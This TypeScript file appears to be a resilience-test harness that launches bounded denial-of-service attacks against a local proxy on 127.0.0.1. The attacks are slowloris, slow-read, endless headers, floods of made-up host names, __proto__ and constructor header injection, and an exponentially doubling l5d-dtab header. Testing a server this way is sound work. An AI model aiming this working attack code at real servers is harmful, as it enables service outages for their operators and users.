/**
 * An attack in a process of its own: `attacker.ts NAME PORT`, until it is killed. Every attack is bounded in connections and in requests
 * a second, so that what is measured is what it does beside the work it asks for.
 */
import { connect, type Socket } from 'node:net';

export const ATTACKS = {
  slowloris: '500 connections send a head, a byte a second',
  'slow-read': '200 connections ask for 1 MiB and read nothing',
  'endless-header': '100 connections send one field that never ends, and come back',
  'made-up-hosts': '500 host names a second that nobody has asked for before',
  'proto-headers': '500 requests a second with __proto__ and constructor fields',
  'pathological-dtab': '100 requests a second with an l5d-dtab that doubles at every step',
} as const;

export type Attack = keyof typeof ATTACKS;

const TICK_MS = 20;

function open(port: number, onClose: () => void): Socket {
  const socket = connect({ port, host: '127.0.0.1' });
  socket.on('error', () => {});
  socket.on('close', onClose);
  return socket;
}

/** So many connections, made anew when they end. */
function hold(count: number, port: number, use: (socket: Socket) => void): void {
  const one = (): void => {
    const socket = open(port, () => setTimeout(one, TICK_MS));
    use(socket);
  };
  for (let i = 0; i < count; i++) one();
}

/** So many requests a second over a few connections, answered or not. */
function ask(perSecond: number, port: number, request: (n: number) => string): void {
  const sockets: Socket[] = [];
  hold(10, port, (socket) => {
    socket.resume();
    sockets.push(socket);
    socket.on('close', () => sockets.splice(sockets.indexOf(socket), 1));
  });
  let sent = 0;
  const startMs = performance.now();
  setInterval(() => {
    const due = ((performance.now() - startMs) * perSecond) / 1_000;
    for (; sent < due; sent++) sockets[sent % sockets.length]?.write(request(sent), 'latin1');
  }, TICK_MS);
}

const get = (fields: string): string => `GET / HTTP/1.1\r\n${fields}\r\n\r\n`;
/** /a leads to two /b, each of them to two /c, and so on. */
const DOUBLING = Array.from({ length: 15 }, (_, i) => `/d${i} => /d${i + 1} | /d${i + 1}`).join(';');

const RUN: Readonly<Record<Attack, (port: number) => void>> = {
  slowloris: (port) =>
    hold(500, port, (socket) => {
      const head = get(`Host: web\r\nX: ${'x'.repeat(1_000)}`);
      let at = 0;
      const timer = setInterval(() => socket.write(head[at++] as string), 1_000);
      socket.on('close', () => clearInterval(timer));
    }),
  'slow-read': (port) =>
    hold(200, port, (socket) => {
      socket.pause();
      socket.write('GET /1m HTTP/1.1\r\nHost: web\r\n\r\n');
    }),
  'endless-header': (port) =>
    hold(100, port, (socket) => {
      socket.write('GET / HTTP/1.1\r\nHost: web\r\nX: ');
      const timer = setInterval(() => socket.write('x'.repeat(1_000)), TICK_MS);
      socket.on('close', () => clearInterval(timer));
    }),
  'made-up-hosts': (port) => ask(500, port, (n) => get(`Host: made-up-${n}`)),
  'proto-headers': (port) =>
    ask(500, port, (n) => get(`Host: web\r\n__proto__: ${n}\r\nconstructor: ${n}\r\ntoString: ${n}`)),
  'pathological-dtab': (port) =>
    ask(100, port, (n) => get(`Host: web\r\nl5d-dtab: /svc/web => /d0;${DOUBLING};/d${n} => /x`)),
};

const [name, port] = process.argv.slice(2);
if (import.meta.main) {
  RUN[name as Attack](Number(port));
  // Sockets that are not read keep no process alive.
  setInterval(() => {}, 60_000);
}
